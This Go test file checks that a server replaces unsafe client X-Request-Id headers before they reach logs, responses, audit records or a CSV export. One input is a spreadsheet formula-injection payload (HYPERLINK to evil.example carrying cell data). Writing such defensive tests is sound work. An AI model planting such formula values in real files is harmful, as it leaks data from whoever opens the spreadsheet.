package handlers

import (
	"bytes"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"

	"partnerhub/models"
)

// headerSetter is a transport that sends one header with every request.
type headerSetter struct{ name, value string }

func (h headerSetter) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set(h.name, h.value)
	return http.DefaultTransport.RoundTrip(r)
}

// lockedBuffer is a log sink the server's goroutines may share.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestClientRequestIDs: a client's X-Request-Id of the safe shape is kept; a huge one or one that
// a spreadsheet would run is replaced by a generated id before the log, the answer, the audit log
// and its CSV export see it.
func TestClientRequestIDs(t *testing.T) {
	t.Parallel()
	logs := &lockedBuffer{}
	app := newTestAppWith(t, func(d *Deps) { d.Log = slog.New(slog.NewTextHandler(logs, nil)) })
	huge := strings.Repeat("7", 900000)
	formula := `=HYPERLINK("http://evil.example/?"&A1,"details")`
	for _, tc := range []struct{ sent, want string }{
		{"client-42.retry_1", "client-42.retry_1"}, {huge, ""}, {formula, ""}, {"a b", ""}, {"", ""},
	} {
		for _, path := range []string{"/login", "/v2/partners/sub-customers/query", "/no-such-page"} {
			req, _ := http.NewRequest(http.MethodGet, app.Srv.URL+path, nil)
			req.Header.Set("X-Request-Id", tc.sent)
			res, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			got := res.Header.Get("X-Request-Id")
			if tc.want != "" && got != tc.want || tc.want == "" && (got == tc.sent || !models.ValidRequestID(got)) {
				t.Errorf("%s with the id %.30q: answered with %.30q", path, tc.sent, got)
			}
		}
	}
	// a sign-in (its audit record carries the request id) under each bad id, then the export
	for _, bad := range []string{huge, formula} {
		c := app.client(t)
		c.http.Transport = headerSetter{"X-Request-Id", bad}
		c.login("operator")
		csv := c.get("/ops/audit.csv")
		if csv.Status != http.StatusOK || strings.Contains(csv.Body, "HYPERLINK") || strings.Contains(csv.Body, huge[:100]) {
			t.Errorf("the audit export carries the client's id (status %d)", csv.Status)
		}
	}
	if n := dbValue[int64](t, app, `SELECT COUNT(*) FROM audit_records WHERE length(request_id) > 64 OR request_id LIKE '%HYPERLINK%'`); n != 0 {
		t.Errorf("%d audit records keep the client's id", n)
	}
	if l := logs.String(); strings.Contains(l, "HYPERLINK") || strings.Contains(l, huge[:100]) || !strings.Contains(l, "client-42.retry_1") {
		t.Error("the log keeps a bad id, or not the good one")
	}
}
